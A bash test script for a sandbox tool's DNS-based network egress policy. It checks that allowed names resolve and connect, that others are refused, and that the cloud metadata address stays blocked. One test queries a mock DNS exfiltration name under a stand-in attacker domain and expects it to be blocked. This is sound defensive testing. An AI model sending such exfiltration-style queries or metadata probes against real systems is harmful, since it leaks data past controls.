#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# Egress by name under `sevorix run`, on the real kernel (docs/dns.md).
# The upstream is dnsmasq on a loopback address, answering test names with
# loopback addresses where this test's servers listen; the policy allows
# those names by host rule and never loopback as a whole, so a connect
# that works proves the address was learnt. Lookups are made by real
# programs (getent, curl, python3, busybox nslookup) and by a stand-in
# that builds its own packets (dns_agent), sent to addresses that are not
# the resolver's. Checked by effect: what the agent got, the events, and
# the upstream's own query log.
. "$(dirname "$0")/../lib/tap.sh"
need_kernel_layer
command -v dnsmasq >/dev/null || skip_all "no dnsmasq (make deps installs dnsmasq-base)"
[ -x "$BUILD/tests/dns/dns_agent" ] || skip_all "helpers not built (make tests)"
scratch
here=$(cd "$(dirname "$0")" && pwd)
B=$SX_TMP/bin
mkdir -p "$B"
cp "$BUILD/tests/dns/dns_agent" "$BUILD/tests/kernel/net_agent" "$B/"
A=$B/dns_agent N=$B/net_agent

UP=127.53.0.1
UP_PORT=$(free_port)
P=$(free_port)		# the test's servers
"$here/dnsmasq.sh" $UP "$UP_PORT" "$SX_TMP/dnsmasq.log" --local-ttl=600 \
	--host-record=allowed.test,127.0.0.11 --host-record=denied.test,127.0.0.12 \
	--host-record=short.test,127.0.0.13,1 --host-record=meta.test,169.254.169.254 \
	--host-record=v6.test,::1 --host-record=api.cdn.test,127.0.0.14 \
	--host-record=other.test,127.0.0.11 --host-record=ok.review.test,127.0.0.15 \
	--host-record=no.review.test,127.0.0.15 2>"$SX_TMP/dnsmasq.err" &
started $!
python3 "$here/../kernel/servers.py" 127.0.0.11:$P 127.0.0.12:$P 127.0.0.13:$P 127.0.0.14:$P \
	127.0.0.15:$P "[::1]:$P" 127.0.0.1:$P >"$SX_TMP/srv.out" &
started $!
wait_ready "$SX_TMP/srv.out"
for _ in $(seq 50); do
	python3 "$here/dnsq.py" --timeout 0.2 $UP:"$UP_PORT" allowed.test | grep -q NOERROR && break
done

cat >"$SX_TMP/policy.yaml" <<EOF
version: 1
network:
  default: deny
  rules:
    - {action: allow, host: allowed.test, ports: [$P]}
    - {action: allow, host: short.test, ports: [$P]}
    - {action: allow, host: meta.test, ports: [80]}
    - {action: allow, host: v6.test, ports: [$P]}
    - {action: allow, host: "*.cdn.test", ports: [$P]}
    - {action: allow, host: localhost, ports: [$P]}
    - {action: deny, cidr: 169.254.169.254/32}
  dns:
    upstream: ["$UP:$UP_PORT"]
    ttl: {min: 1, max: 60}
    grace: 1
EOF
EV=$SX_TMP/ev.jsonl
cd "$SX_TMP" || exit 1
# sx CMD...: CMD under the policy, as nobody; its output
sx() { "$SEVORIX" run --policy "$SX_TMP/policy.yaml" --user nobody --events "$EV" -- "$@" \
	2>>"$SX_TMP/run.err"; }

plan 40

# --- real programs ----------------------------------------------------
is "$(sx getent hosts allowed.test | awk '{print $1}')" 127.0.0.11 \
	"getent: an allowed name resolves (glibc, the host's resolv.conf)"
sx getent hosts denied.test >/dev/null
is "$?" 2 "getent: a name under no rule does not resolve"
is "$(sx curl -s --max-time 5 "http://allowed.test:$P/")" ok "curl: an allowed name resolves and connects"
is "$(sx python3 -c "import socket; socket.create_connection(('allowed.test', $P), 3); print('ok')" 2>&1)" \
	ok "python3 socket.create_connection: resolves and connects"
if busybox nslookup localhost >/dev/null 2>&1 || busybox 2>&1 | grep -qw nslookup; then
	like "$(sx busybox nslookup allowed.test 192.0.2.1 2>&1)" "127\.0\.0\.11" \
		"busybox nslookup to a server of its own (192.0.2.1) is answered by the run's resolver"
else
	pass "# SKIP busybox has no nslookup here"
fi

# --- lookups made by hand, to servers that are not the resolver --------
is "$(sx "$A" udp 8.8.8.8 53 allowed.test)" "NOERROR 127.0.0.11 from 8.8.8.8:53" \
	"a hand-made UDP query to 8.8.8.8:53 is answered, as if by 8.8.8.8"
is "$(sx "$A" connected 192.0.2.53 53 allowed.test)" "NOERROR 127.0.0.11 from 192.0.2.53:53" \
	"connected UDP: answered, getpeername names the server asked"
is "$(sx "$A" tcp 192.0.2.53 53 allowed.test)" "NOERROR 127.0.0.11 from 192.0.2.53:53" \
	"DNS over TCP: answered, getpeername names the server asked"
is "$(sx "$A" udp 2001:db8::53 53 v6.test AAAA)" "NOERROR ::1 from [2001:db8::53]:53" \
	"over IPv6: answered, as if by the IPv6 server asked"
is "$(sx "$A" udp 192.0.2.53 53 exfil-c2VjcmV0.attacker.test)" \
	"NXDOMAIN from 192.0.2.53:53" "a name under no rule is answered NXDOMAIN at once"
is "$(sx "$A" udp $UP "$UP_PORT" allowed.test)" EPERM \
	"a query straight to the upstream's own address and port is refused"

# --- connects to learnt addresses -------------------------------------
is "$(sx sh -c "getent hosts api.cdn.test >/dev/null; $N connect 127.0.0.14 $P")" ok \
	"a wildcard host rule: the learnt address connects"
like "$(sx sh -c "getent hosts allowed.test >/dev/null; $N connect 127.0.0.11 $((P + 1))")" \
	"^(EPERM|ERR EACCES)$" "only on the host rule's ports (Landlock's port rule or K2)"
is "$(sx sh -c "$N connect 127.0.0.11 $P")" EPERM \
	"an address never looked up in this run is judged by cidr rules alone"
is "$(sx sh -c "getent hosts denied.test; $N connect 127.0.0.12 $P")" EPERM \
	"the address of a denied name, learnt another way, is not reachable"
is "$(sx sh -c "getent hosts meta.test >/dev/null; $N connect 169.254.169.254 80")" EPERM \
	"a name resolving to 169.254.169.254 is still refused: a deny cidr rule wins"
is "$(sx sh -c "$A udp 8.8.8.8 53 v6.test AAAA >/dev/null; $N connect ::1 $P")" ok \
	"an IPv6 address learnt from an AAAA answer connects"
is "$(sx "$N" connect 127.0.0.1 $P)" ok \
	"/etc/hosts: localhost, allowed by a host rule, is learnt at start"
out=$(sx sh -c "getent hosts short.test >/dev/null; $N connect 127.0.0.13 $P; sleep 3.2;
	$N connect 127.0.0.13 $P; getent hosts short.test >/dev/null; $N connect 127.0.0.13 $P")
is "$(echo $out)" "ok EPERM ok" \
	"after its TTL and grace a learnt address is refused, until looked up again"
is "$(sx sh -c "getent hosts short.test >/dev/null; $A hold 127.0.0.13 $P 3")" ok \
	"a connection made before the expiry goes on working after it"

# --- the events -------------------------------------------------------
line=$(grep '"kind":"connect"' "$EV" | grep '"target":"127.0.0.14:'$P'"' | head -1)
like "$line" '"host":"api.cdn.test".*"verdict":"allow".*"rule":"'"$SX_TMP"'/policy.yaml:9"' \
	"a connect event names the host and the host rule"
line=$(grep '"kind":"connect"' "$EV" | grep '"target":"169.254.169.254:80"' | head -1)
like "$line" '"host":"meta.test".*"verdict":"deny".*policy.yaml:11"' \
	"the refused metadata connect names its host and the deny rule"
like "$(grep '"kind":"dns"' "$EV" | grep '"target":"exfil-c2vjcmv0.attacker.test"' | head -1)" \
	'"qtype":"A","verdict":"deny".*"rule":"default","layer":"dns"' "a refused name is a dns event"
like "$(grep '"kind":"dns"' "$EV" | grep '"target":"allowed.test"' | grep '"qtype":"A"' | head -1)" \
	'"answers":\["127.0.0.11"\],"verdict":"allow".*policy.yaml:5"' "an allowed one too, with its answers"

# --- the upstream's log: refused names never left --------------------
log=$(cat "$SX_TMP/dnsmasq.log")
like "$log" "query\[A\] allowed\.test" "the upstream saw the allowed names"
unlike "$log" "denied\.test|attacker\.test" "and never a refused one"

# --- reviews of names, by the real jury -------------------------------
J=$SX_TMP/jury
mkdir -p "$J"
printf 'consensus: unanimous\ncache: {size: 0}\njurors:\n  - {kind: rulebook}\n' >"$J/yes.yaml"
printf 'consensus: "quorum:9"\ncache: {size: 0}\njurors:\n  - {kind: rulebook}\n' >"$J/no.yaml"
"$SEVORIX" jury serve --socket "$J/yes/slm.sock" --config "$J/yes.yaml" >"$J/yes.log" 2>&1 &
started $!
"$SEVORIX" jury serve --socket "$J/no/slm.sock" --config "$J/no.yaml" >"$J/no.log" 2>&1 &
started $!
for _ in $(seq 100); do [ -S "$J/yes/slm.sock" ] && [ -S "$J/no/slm.sock" ] && break; sleep 0.05; done
sed 's/^    - {action: allow, host: localhost.*/&\n    - {action: review, host: "*.review.test", ports: ['$P']}/' \
	"$SX_TMP/policy.yaml" >"$SX_TMP/review.yaml"
rv() { "$SEVORIX" run --policy "$SX_TMP/review.yaml" --user nobody --events "$SX_TMP/rv.jsonl" \
	--jury "unix://$1" -- sh -c "$2" 2>/dev/null; }
is "$(rv "$J/yes/slm.sock" "getent hosts ok.review.test >/dev/null && $N connect 127.0.0.15 $P")" ok \
	"a name of a review rule that the jury allows resolves, and its address connects"
is "$(rv "$J/no/slm.sock" "getent hosts no.review.test; echo \$?")" 2 \
	"one the jury denies does not resolve"
is "$(rv "$J/none/slm.sock" "getent hosts no.review.test; echo \$?")" 2 \
	"with no jury, it does not resolve either"
like "$(grep '"layer":"jury"' "$SX_TMP/rv.jsonl" | head -1)" '"kind":"dns","target":"ok.review.test".*"verdict":"allow"' \
	"the jury's review of a name is an event"
unlike "$(cat "$SX_TMP/dnsmasq.log")" "no\.review\.test" "a name the review refused never left"

# --- a trapped connect (review rules in the policy) ------------------
sed 's/^    - {action: deny, cidr: 169.254.169.254.*/&\n    - {action: review, cidr: 127.0.0.0\/8, ports: ['$P']}/' \
	"$SX_TMP/policy.yaml" >"$SX_TMP/trap.yaml"
trapped() { "$SEVORIX" run --policy "$SX_TMP/trap.yaml" --user nobody --events /dev/null \
	--jury "unix://$J/none/slm.sock" -- sh -c "$1" 2>/dev/null; }
is "$(trapped "$A tcp 192.0.2.53 53 allowed.test")" "NOERROR 127.0.0.11 from 192.0.2.53:53" \
	"held connects: a lookup over TCP goes to the resolver, not to the jury"
is "$(trapped "getent hosts allowed.test >/dev/null; $N connect 127.0.0.11 $P")" ok \
	"held connects: a learnt address inside a review range is allowed without the jury"
is "$(trapped "$N connect 127.0.0.12 $P")" EPERM "held connects: another one is reviewed (no jury: denied)"

# --- audit mode: nothing refused, everything said ---------------------
sed 's/^version: 1/version: 1\nmode: audit/' "$SX_TMP/policy.yaml" >"$SX_TMP/audit.yaml"
is "$("$SEVORIX" run --policy "$SX_TMP/audit.yaml" --user nobody --events "$SX_TMP/audit.jsonl" \
	-- getent hosts denied.test 2>/dev/null | awk '{print $1}')" 127.0.0.12 \
	"audit mode: a name no rule allows resolves"
like "$(grep '"kind":"dns"' "$SX_TMP/audit.jsonl" | grep '"qtype":"A"' | head -1)" \
	'"target":"denied.test","qtype":"A",.*"verdict":"deny","enforced":false' "and its event says deny, not enforced"

# --- the resolver gone: lookups fail, nothing more is learnt ----------
"$SEVORIX" run --policy "$SX_TMP/policy.yaml" --user nobody --events /dev/null -- sh -c \
	"echo started; sleep 1; getent hosts allowed.test; echo rc=\$?; $N connect 127.0.0.11 $P" \
	>"$SX_TMP/dead.out" 2>/dev/null &
sup=$!
for _ in $(seq 200); do grep -q started "$SX_TMP/dead.out" && break; sleep 0.05; done
kill -KILL "$sup"
wait "$sup" 2>/dev/null
for _ in $(seq 100); do grep -q '^\(ok\|EPERM\|ERR\)' "$SX_TMP/dead.out" && break; sleep 0.05; done
is "$(grep -o 'rc=[0-9]*' "$SX_TMP/dead.out")" rc=2 \
	"the supervisor (and its resolver) killed: a lookup fails"
is "$(tail -1 "$SX_TMP/dead.out")" EPERM "and an address it never learnt stays denied"

# --- where names are not taken ---------------------------------------
CG=$(cgroup2_mount)/sevorix-dns-test.$$
mkdir "$CG"
out=$("$SEVORIX" attach --policy "$SX_TMP/policy.yaml" --cgroup "$CG" 2>&1)
is "$?" 1 "sevorix attach refuses a policy with host rules"
like "$out" "only .sevorix run. starts" "and says why"
rmdir "$CG"
